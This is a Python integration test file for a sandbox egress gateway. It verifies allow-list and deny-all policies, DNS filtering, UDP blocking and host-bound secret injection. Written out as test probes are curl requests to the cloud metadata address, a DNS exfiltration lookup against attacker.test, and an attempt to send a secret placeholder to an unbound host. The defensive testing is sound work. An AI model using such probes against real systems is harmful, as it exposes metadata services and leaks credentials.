"""The egress gateway end to end: a real spaced with egress on, real sandboxes with real clients inside
(busybox wget, curl, python3), and upstream HTTP/HTTPS/DNS servers in a network namespace this test
creates. The daemon's config declares that namespace's subnet external (egress_test_external_subnets),
the one setting that lets a private address count as public. Nothing here sends a packet beyond loopback,
the sandboxes' own links and the test namespace: the "direct UDP" checks aim at the test namespace, not
at a public resolver, so a broken rule cannot leak a packet onto the real network.
SECURITY.md E1, E11, E16, E17."""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

from egressfixtures import CURL, UPSTREAM, create, egress_daemon, python_tpl, sh, upstream, upstream_log  # noqa: F401


# ------------------------------------------------------------------------------------------------ tests


def test_sandbox_gets_a_network_and_the_proxy_env(egress_daemon):
    d = egress_daemon
    sid = create(d)
    try:
        net = d.client.call("GET", f"/v1/sandboxes/{sid}/network")
        assert net["mode"] == "deny-all" and net["subnet"].endswith("/30"), net
        r = sh(d, sid, "cat /etc/resolv.conf; echo; env | sort; ip addr show eth0 2>/dev/null || ifconfig eth0")
        assert f"nameserver {net['gateway']}" in r.out, r.out
        assert f"HTTP_PROXY=http://{net['gateway']}:3128" in r.out, r.out
        assert "NO_PROXY=localhost,127.0.0.1" in r.out, r.out
        assert "SSL_CERT_FILE=" in r.out and "NODE_EXTRA_CA_CERTS=" in r.out, r.out
        link = "spc%x" % (int.from_bytes(bytes(int(p) for p in net["subnet"].split("/")[0].split(".")), "big") >> 2)
        assert Path(f"/sys/class/net/{link}").exists(), f"host link {link} missing"
    finally:
        d.client.delete(sid)
    assert not Path(f"/sys/class/net/{link}").exists(), f"host link {link} left after delete"



def test_deny_all_blocks_everything(egress_daemon, upstream, python_tpl):
    d = egress_daemon
    sid = create(d, template=python_tpl)
    try:
        before = len(upstream_log(upstream))
        r = sh(d, sid, f"{CURL} http://allowed.test/deny-all; echo rc=$?")
        assert "rc=0" not in r.out and "/deny-all" not in r.out, r.out
        r = sh(d, sid, f"{CURL} --noproxy '*' http://{UPSTREAM}/direct; echo rc=$?")
        assert "rc=0" not in r.out and "/direct" not in r.out, r.out
        log = d.client.raw("GET", f"/v1/sandboxes/{sid}/network/log")[2].decode()
        assert '"verdict":"deny"' in log, log  # refused by the gateway, not by a broken client
        time.sleep(0.5)
        reached = [e for e in upstream_log(upstream)[before:] if e["kind"] == "http"]
        assert not reached, f"requests reached the upstream under deny-all: {reached}"
    finally:
        d.client.delete(sid)


def test_allow_list_allows_only_the_allowed_name(egress_daemon, upstream, python_tpl):
    d = egress_daemon
    sid = d.client.create(template=python_tpl,
                          network={"mode": "allow-list", "rules": [{"action": "allow", "domain": "allowed.test"}]})["id"]
    try:
        r = sh(d, sid, f"{CURL} http://allowed.test/via-proxy")
        assert r.exit_code == 0 and '"path": "/via-proxy"' in r.out, (r.out, r.err)
        r = sh(d, sid, f"{CURL} --noproxy '*' http://allowed.test/transparent")
        assert r.exit_code == 0 and '"path": "/transparent"' in r.out, (r.out, r.err)
        r = sh(d, sid, f"{CURL} http://other.test/not-allowed; echo rc=$?")
        assert "rc=0" not in r.out and "/not-allowed" not in r.out, r.out
        paths = [e["path"] for e in upstream_log(upstream) if e["kind"] == "http"]
        assert "/via-proxy" in paths and "/transparent" in paths
        assert "/not-allowed" not in paths
        # Changed while running: other.test now allowed, allowed.test no longer.
        d.client.call("PUT", f"/v1/sandboxes/{sid}/network",
                      {"mode": "allow-list", "rules": [{"action": "allow", "domain": "other.test"}]})
        r = sh(d, sid, f"{CURL} http://other.test/now-allowed")
        assert r.exit_code == 0 and "/now-allowed" in r.out, (r.out, r.err)
        # The audit log names the sandbox's decisions.
        status, _, body = d.client.raw("GET", f"/v1/sandboxes/{sid}/network/log")
        assert status == 200, body
        lines = [json.loads(x) for x in body.decode().splitlines() if x.strip()]
        assert lines and all(x["sandbox"] == sid for x in lines)
        assert any(x.get("verdict") == "deny" and x.get("name") == "other.test" for x in lines), lines
    finally:
        d.client.delete(sid)


def test_private_and_metadata_addresses_are_denied_E1(egress_daemon, upstream, python_tpl):
    d = egress_daemon
    sid = d.client.create(template=python_tpl, network={"mode": "allow-all-public"})["id"]
    try:
        # Absolute-form GET and CONNECT through the explicit proxy, and a transparent connect.
        for target in ("169.254.169.254", "10.0.0.1", "127.0.0.1", "[::1]"):
            for how in ("", "-p ", "--noproxy '*' "):
                r = sh(d, sid, f"{CURL} {how}http://{target}/meta; echo rc=$?")
                assert "rc=0" not in r.out and "/meta" not in r.out, (target, how, r.out)
        log = d.client.raw("GET", f"/v1/sandboxes/{sid}/network/log")[2].decode()
        assert "169.254.169.254" in log and '"deny"' in log, log[-2000:]
    finally:
        d.client.delete(sid)


def test_dns_for_a_disallowed_name_is_nxdomain_and_not_forwarded_E16(egress_daemon, upstream):
    d = egress_daemon
    sid = d.client.create(network={"mode": "allow-list", "rules": [{"action": "allow", "domain": "allowed.test"}]})["id"]
    try:
        secret_label = "exfil" + os.urandom(4).hex()
        r = sh(d, sid, f"nslookup {secret_label}.attacker.test; echo rc=$?")
        assert "rc=0" not in r.out or "NXDOMAIN" in r.out or "can't find" in r.out, r.out
        r = sh(d, sid, "nslookup allowed.test")
        assert UPSTREAM in r.out, r.out
        time.sleep(0.5)
        names = [e["name"] for e in upstream_log(upstream) if e["kind"] == "dns"]
        assert not any(secret_label in n for n in names), f"the disallowed name reached the upstream resolver: {names}"
    finally:
        d.client.delete(sid)


def test_direct_udp_leaves_nothing_E11(egress_daemon, upstream, python_tpl):
    d = egress_daemon
    policy = {"mode": "allow-list", "rules": [{"action": "allow", "domain": "allowed.test"}]}
    sid = d.client.create(network=policy)["id"]
    py = d.client.create(template=python_tpl, network=policy)["id"]
    try:
        before = len(upstream_log(upstream))
        # UDP to any other port is dropped; UDP/53 aimed straight at a resolver is redirected to the
        # gateway's, which answers NXDOMAIN for a name the policy does not allow and asks nobody.
        r = sh(d, py, "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); "
                      f"print('sent', s.sendto(b'hello', ('{UPSTREAM}', 5353)))\"")
        assert "sent 5" in r.out, (r.out, r.err)  # the datagram left the process; nothing may receive it
        label = "direct" + os.urandom(4).hex()
        r = sh(d, sid, f"nslookup {label}.example {UPSTREAM}; echo rc=$?")
        assert "rc=0" not in r.out or "NXDOMAIN" in r.out or "can't find" in r.out, r.out
        r = sh(d, sid, f"nslookup allowed.test {UPSTREAM}")
        assert UPSTREAM in r.out, r.out  # answered: by the gateway, through the redirect
        time.sleep(0.5)
        after = upstream_log(upstream)[before:]
        assert not [e for e in after if e["kind"] == "udp"], f"a direct datagram reached the upstream: {after}"
        assert not [e for e in after if e["kind"] == "dns" and label in e["name"]], after
    finally:
        d.client.delete(sid)
        d.client.delete(py)


def test_secret_is_injected_and_never_seen_inside_E17(egress_daemon, upstream, python_tpl, tmp_path):
    d = egress_daemon
    value = "sk-live-" + os.urandom(16).hex()
    d.client.call("POST", "/v1/secrets", {"name": "TEST_TOKEN", "value": value, "hosts": ["secret.test"],
                                          "header": "Authorization", "format": "Bearer {}"})
    listed = d.client.call("GET", "/v1/secrets")["secrets"]
    assert [s["name"] for s in listed] == ["TEST_TOKEN"] and value not in json.dumps(listed)
    assert value.encode() not in (d.state / "space.db").read_bytes(), "secret value stored in clear"
    sid = d.client.create(template=python_tpl, secrets=["TEST_TOKEN"],
                          network={"mode": "allow-list", "rules": [{"action": "allow", "domain": "secret.test"}]})["id"]
    try:
        r = sh(d, sid, "echo $TEST_TOKEN")
        placeholder = r.out.strip()
        assert placeholder.startswith("space_ph_") and value not in r.out, r.out
        r = sh(d, sid, 'curl -sS --max-time 10 https://secret.test/echo -H "Authorization: Bearer $TEST_TOKEN"')
        assert r.exit_code == 0, (r.out, r.err)
        assert value not in r.out, "the upstream's echo of the real value reached the sandbox"
        assert placeholder in r.out, r.out
        seen = [e for e in upstream_log(upstream) if e["kind"] == "http" and e["path"] == "/echo"]
        assert seen and seen[-1]["headers"].get("Authorization") == f"Bearer {value}", seen
        # Nowhere inside: environment, files the sandbox can read.
        r = sh(d, sid, f"grep -rl {value} /etc /root /tmp /usr/local 2>/dev/null; env | grep -c {value}; true")
        assert value not in r.out and r.out.strip().endswith("0"), r.out
        # The placeholder sent to an unbound host is blocked.
        r = sh(d, sid, 'curl -sS --max-time 10 -o /dev/null -w "%{http_code}" http://allowed.test/leak '
                       '-H "X-Key: $TEST_TOKEN"; echo " rc=$?"')
        assert not [e for e in upstream_log(upstream) if e.get("path") == "/leak"], r.out
    finally:
        d.client.delete(sid)
        d.client.call("DELETE", "/v1/secrets/TEST_TOKEN")


def test_bad_network_requests_get_clear_errors(egress_daemon):
    c = egress_daemon.client
    for body, needle in (({"network": {"mode": "everything"}}, "mode"),
                         ({"network": {"mode": "allow-list", "rules": [{"action": "allow"}]}}, "rule"),
                         ({"network": {"rules": "x"}}, "rules"),
                         ({"network": {"moed": "deny-all"}}, "unknown field"),
                         ({"secrets": ["NO_SUCH_SECRET"]}, "NO_SUCH_SECRET")):
        status, _, data = c.raw("POST", "/v1/sandboxes", body)
        assert status == 400, (body, status, data)
        assert needle in data.decode(), (needle, data)
    status, _, data = c.raw("POST", "/v1/secrets", {"name": "1BAD", "value": "x", "hosts": ["a.test"]})
    assert status == 400 and b"name" in data, data
    status, _, data = c.raw("POST", "/v1/secrets", {"name": "GOOD", "value": "x"})
    assert status == 400 and b"hosts" in data, data


def _wait_new_gateway(d, old_pid, timeout=15):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        pid = d.egress_pid()
        if pid and pid != old_pid:
            return pid
        time.sleep(0.2)
    raise AssertionError(f"space-egress was not restarted:\n{d.log_tail()}")


def test_gateway_is_restarted_and_survives_a_daemon_restart(egress_daemon, upstream, python_tpl):
    d = egress_daemon
    sid = d.client.create(template=python_tpl,
                          network={"mode": "allow-list", "rules": [{"action": "allow", "domain": "allowed.test"}]})["id"]
    try:
        assert sh(d, sid, f"{CURL} http://allowed.test/before").exit_code == 0
        # The gateway dies: spaced restarts it and registers the sandbox again, policy included.
        old = d.egress_pid()
        assert old
        os.kill(old, 9)
        new = _wait_new_gateway(d, old)
        deadline = time.monotonic() + 10
        while time.monotonic() < deadline:
            r = sh(d, sid, f"{CURL} http://allowed.test/after-gateway-restart")
            if r.exit_code == 0:
                break
            time.sleep(0.3)
        assert r.exit_code == 0 and "/after-gateway-restart" in r.out, (r.out, r.err)
        assert sh(d, sid, f"{CURL} http://other.test/still-denied; echo rc=$?").out.strip().endswith("rc=22")
        # spaced restarts: the gateway (and its pid) stays, the sandbox keeps its network.
        d.stop(keep_egress=True)
        assert d.egress_pid() == new, "space-egress did not outlive spaced"
        d.start()
        assert d.egress_pid() == new, "a restarted spaced replaced a running space-egress"
        assert "adopted the running space-egress" in d.log_path.read_text(errors="replace")
        r = sh(d, sid, f"{CURL} http://allowed.test/after-daemon-restart")
        assert r.exit_code == 0 and "/after-daemon-restart" in r.out, (r.out, r.err)
    finally:
        d.client.delete(sid)
